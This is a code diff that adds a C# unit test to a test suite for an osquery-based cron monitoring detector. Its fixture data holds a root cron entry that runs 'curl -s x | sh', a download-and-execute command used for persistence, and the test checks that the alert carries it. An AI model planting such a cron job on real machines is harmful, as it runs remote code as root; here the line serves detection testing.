@@ -94,6 +94,23 @@ public sealed class OsqueryLogTests : IAsyncDisposable
     }
 
     [Fact]
+    public void Take_ListingComesAfterItsAlert_PublishesTheAlertAgainWithWhatTheFileRuns()
+    {
+        Send(Crontab("1768471000", ""));
+        var alert = AlertOf(Hit());
+        Send(Crontab("1768471100", """{"command":"root curl -s x | sh","path":"/etc/cron.d/x","minute":"*"}"""));
+        var news = AlertOf(_lanes.Take(DetectionInput.End));
+        Assert.Equal(("late", "resolved"), (CommandsOf(alert).GetProperty("status").GetString(), CommandsOf(news).GetProperty("status").GetString()));
+        Assert.Contains("curl -s x | sh", news.GetRawText(), StringComparison.Ordinal);
+        Assert.Equal(1, news.GetProperty("cronwatch.context.revision").GetInt32());
+
+        static string Crontab(string time, string rows) =>
+            $$"""{"snapshot":[{{rows}}],"action":"snapshot","name":"pack_cronwatch_crontab","hostIdentifier":"{{Host}}","unixTime":{{time}},"epoch":0,"counter":0}""";
+
+        static JsonElement CommandsOf(JsonElement alert) => alert.GetProperty("guide.script").GetProperty("crontab");
+    }
+
+    [Fact]
     public void Take_IdentifiersThatAreNoHosts_AreCountedAtTheEnd()
     {
         Send(Results[0].Replace(Host, "web-01", StringComparison.Ordinal));
